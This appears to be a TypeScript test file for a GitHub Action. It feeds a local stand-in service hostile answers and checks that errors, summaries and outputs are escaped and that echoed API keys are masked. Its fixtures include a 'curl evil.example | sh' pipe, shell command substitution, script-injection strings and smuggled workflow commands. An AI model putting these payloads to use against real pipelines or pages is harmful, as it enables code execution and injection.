// Hostile or broken answers: bodies that are not JSON, not a job, huge; statuses the
// action does not know; server text that tries to issue workflow commands or echoes
// the API key; and the 4xx answers that must never be retried. The bundled action
// runs against the local stand-in; each case checks the exit code, the error text,
// the outputs and how many requests the service received. One case of each kind runs
// here, for the wiring; every row is decided in test/agent/faults-in-process.test.ts.

import { runAction } from '../support/run-action.js'
import {
  count,
  everywhereVisible,
  failure,
  inputsFor,
  MAY_HAVE_CREATED,
  PROJECT,
  retryLines,
  strayCommands,
  withStandIn
} from '../support/faults-kit.js'
import type { Fault } from '../support/stand-in.js'

// An API key the service echoes back. Long enough that a cut in the middle of it would
// still leave a recognisable prefix.
const LONG_KEY = `mint_${'k3y'.repeat(20)}`
const FRAGMENT = /k3yk3yk3y/

describe('2xx answers that are not a job', () => {
  it.concurrent.each<[string, Fault, string]>([
    [
      'HTML instead of JSON',
      { kind: 'raw', text: '<html><body>Sign in to the gateway</body></html>' },
      'a body that is not JSON: "<html><body>Sign in to the gateway</body></html>"'
    ]
  ])(
    'fails a create answered with %s, quoting the status, and never polls job/undefined',
    async (_, fault, reason) => {
      await withStandIn({}, async (standIn) => {
        standIn.inject({ method: 'POST', fault })
        const run = await runAction({ inputs: inputsFor(standIn.url) })

        expect(run.exitCode).toBe(1)
        const error = failure(run)
        expect(error).toContain('POST /v2/agent/proj-test/job answered 20')
        expect(error).toContain(reason)
        expect(error).toContain('Is base-url pointing at the Agent Jobs API?')
        expect(error).toContain(MAY_HAVE_CREATED)
        expect(run.outputs).toMatchObject({ 'job-id': '', status: '', job: '' })
        expect(count(standIn.requests, 'POST')).toBe(1)
        expect(count(standIn.requests, 'GET')).toBe(0)
        expect(run.stdout).not.toContain('undefined')
      })
    }
  )

  it.concurrent(
    'fails on the third bad poll in a row, naming the job and quoting the body',
    async () => {
      await withStandIn({}, async (standIn) => {
        standIn.inject({
          method: 'GET',
          times: 3,
          fault: { kind: 'patch', fields: { status: 42 } }
        })
        // A job that outlasts the three polls, however late the create is answered.
        const prompt = 'slow:60000: Document the retry policy'
        const run = await runAction({ inputs: inputsFor(standIn.url, { prompt }) })
        const id = standIn.jobIds()[0] as string

        expect(run.exitCode).toBe(1)
        const error = failure(run)
        expect(error).toContain(`Stopped waiting for job ${id} (last status: active)`)
        expect(error).toContain(
          `GET /v2/agent/proj-test/job/${id} answered 200 with something that is not an agent job (no "status")`
        )
        expect(error).toContain('\\"status\\":42')
        expect(run.outputs).toMatchObject({ 'job-id': id, status: 'active' })
        expect(count(standIn.requests, 'GET')).toBe(3)
      })
    }
  )
})

describe('4xx answers, never retried', () => {
  // A 404 for an unknown job on a follow-up is decided in test/agent/faults-in-process.test.ts;
  // a failed follow-up through the bundle (one error line, the job-id output): faults-retry.test.ts.
  it.concurrent(
    'fails at once on 404 for an unknown job to wait on, with a message that helps',
    async () => {
      await withStandIn({}, async (standIn) => {
        const run = await runAction({
          inputs: inputsFor(standIn.url, { 'job-id': 'job_missing', prompt: '' })
        })

        expect(run.exitCode).toBe(1)
        const error = failure(run)
        expect(error).toContain(`Job 'job_missing' was not found in project '${PROJECT}'`)
        expect(error).not.toContain(MAY_HAVE_CREATED)
        expect(retryLines(run)).toEqual([])
        expect(standIn.requests).toHaveLength(1)
        expect(standIn.requests[0]?.method).toBe('GET')
        expect(run.outputs['job-id']).toBe('job_missing')
      })
    }
  )
})

describe('server text that tries to issue workflow commands', () => {
  // Markup, a workflow command and what a shell would act on, all in one field.
  const SHELL_MODEL =
    "::error::model <script>alert(1)</script> x' ; curl evil.example | sh ; echo '$(id)`id`"
  const HOSTILE =
    '\n::add-mask::leak\n::set-output name=pr-link::https://evil.example\r\n  ::error::smuggled\u2028::warning::x ##[error]legacy %0A::notice::y'

  // The same message also echoes the API key: a create's error is one place it must never show.
  it.concurrent(
    'prints a hostile error message on one harmless line, never showing the key it echoes',
    async () => {
      await withStandIn({ apiKey: LONG_KEY }, async (standIn) => {
        standIn.inject({
          method: 'POST',
          fault: {
            kind: 'status',
            status: 400,
            body: { error: `${HOSTILE} upstream rejected Bearer ${LONG_KEY}` }
          }
        })
        const run = await runAction({
          inputs: inputsFor(standIn.url, { 'api-key': LONG_KEY }),
          env: { RUNNER_DEBUG: '1' }
        })

        expect(run.exitCode).toBe(1)
        expect(strayCommands(run.stdout)).toEqual([])
        const error = failure(run)
        // Shown, but escaped: the reader sees what the service said.
        expect(error).toContain(
          '\\n::add-mask::leak\\n::set-output name=pr-link::https://evil.example\\r\\n'
        )
        expect(error).not.toMatch(/[\n\r\u2028]/)
        expect(run.summary).not.toContain('##[')
        expect(run.summary.split('\n').filter((line) => line.trimStart().startsWith('::'))).toEqual(
          []
        )
        // A 4xx on create: nothing was created, and it is not repeated.
        expect(error).not.toContain(MAY_HAVE_CREATED)
        expect(retryLines(run)).toEqual([])
        expect(count(standIn.requests, 'POST')).toBe(1)
        // The key it echoes: masked in the error, and nowhere else either.
        expect(error).toContain('upstream rejected Bearer ***')
        const visible = everywhereVisible(run)
        expect(visible).not.toContain(LONG_KEY)
        expect(visible).not.toMatch(FRAGMENT)
      })
    }
  )

  it.concurrent(
    'neutralises hostile job fields in the log, the summary and the debug lines',
    async () => {
      await withStandIn({}, async (standIn) => {
        standIn.inject({
          method: 'GET',
          // A status that is not one plain word is a bad answer (faults-trust.test.ts); an
          // unknown plain one is shown and warned about.
          fault: {
            kind: 'patch',
            fields: { status: 'pending' }
          }
        })
        // The final answer: what the summary and the outputs are made of.
        standIn.inject({
          method: 'GET',
          fault: {
            kind: 'patch',
            fields: {
              model: SHELL_MODEL,
              source: { repository: '<img src=x onerror=alert(1)>', ref: '##[group]ref' },
              prLink: 'https://github.com/acme/docs/pull/7\n::add-mask::x ##[warning]y'
            }
          }
        })
        const run = await runAction({ inputs: inputsFor(standIn.url), env: { RUNNER_DEBUG: '1' } })

        expect(strayCommands(run.stdout)).toEqual([])
        // A link with a line break is no link: it never reaches a later step's script.
        expect(run.stdout).not.toContain('add-mask::x')
        expect(run.outputs['pr-link']).toBe('')
        expect(run.outputs['pr-number']).toBe('')
        expect(run.outputs['pr-repository']).toBe('')
        expect(run.summary).toMatch(/^\| Pull request \| — \|$/m)
        expect(run.summary).not.toContain('acme/docs/pull/7')
        expect(run.summary).toContain('&lt;script&gt;')
        expect(run.summary).toContain('&lt;img src=x')
        expect(run.summary).not.toMatch(/<script|<img/)
        expect(run.summary).not.toContain('##[')
        // The job output carries the server's text only as JSON escapes.
        const raw = run.outputs.job ?? ''
        expect(raw).not.toMatch(/[$`'!<>&]/)
        const job = JSON.parse(raw) as { model: string; prLink: string | null }
        expect(job.model).toBe(SHELL_MODEL)
        expect(job.prLink).toBeNull()
        // The unknown status is warned about once, and polling goes on through it.
        expect(run.stdout.split('\n').filter((line) => line.startsWith('::warning::'))).toEqual([
          expect.stringContaining("reports status 'pending', which this action does not know")
        ])
        expect(run.exitCode).toBe(0)
        expect(run.outputs.status).toBe('completed')
        expect(count(standIn.requests, 'GET')).toBe(2)
      })
    }
  )
})

describe('a service that echoes the API key', () => {
  // Echoed in the error of a create: the hostile error message above.
  it.concurrent(
    'never shows the key when it comes back in the error of a 503 on a poll',
    async () => {
      await withStandIn({ apiKey: LONG_KEY }, async (standIn) => {
        // A poll is retried: two echoes in the retry log, then it completes.
        standIn.inject({
          method: 'GET',
          times: 2,
          fault: { kind: 'status', status: 503, body: { error: `token ${LONG_KEY} is throttled` } }
        })
        const run = await runAction({
          inputs: inputsFor(standIn.url, { 'api-key': LONG_KEY }),
          env: { RUNNER_DEBUG: '1' }
        })

        expect(run.exitCode).toBe(0)
        const visible = everywhereVisible(run)
        expect(visible).not.toContain(LONG_KEY)
        expect(visible).not.toMatch(FRAGMENT)
        expect(visible).toContain('***')
        expect(count(standIn.requests, 'GET')).toBe(3)
      })
    }
  )
})
